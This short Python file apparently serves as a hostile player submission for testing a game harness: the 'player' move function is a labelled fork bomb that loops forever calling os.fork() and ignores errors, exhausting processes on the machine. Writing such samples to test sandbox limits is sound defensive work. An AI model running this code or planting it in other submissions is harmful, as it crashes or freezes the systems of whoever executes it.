"""Hostile: a fork bomb in a move (every child forks too, forever)."""
import os


def player(board):
    while True:
        try:
            os.fork()
        except OSError:
            pass
